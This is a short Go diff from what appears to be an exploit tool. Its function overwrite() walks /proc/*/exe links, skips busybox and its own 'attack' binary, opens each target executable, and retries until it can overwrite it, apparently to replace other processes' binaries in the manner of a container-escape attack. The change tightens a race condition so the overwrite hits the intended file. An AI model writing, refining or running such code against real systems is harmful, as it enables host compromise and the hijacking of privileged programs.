@@ -253,12 +253,13 @@ func overwrite() {
 		}
 		list, _ := filepath.Glob("/proc/[0-9]*/exe")
 		for _, p := range append(list, "/proc/self/exe") {
-			to, _ := os.Readlink(p)
-			if strings.Contains(to, "busybox") || strings.Contains(to, "attack") {
-				continue
-			}
 			fd, err := unix.Open(p, unix.O_PATH, 0)
 			if err != nil {
+				continue
+			}
+			to, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)) // of what is open: the link may have changed since
+			if strings.Contains(to, "busybox") || strings.Contains(to, "attack") {
+				_ = unix.Close(fd)
 				continue
 			}
 			for range 50 { // while it runs it is busy: later it is not
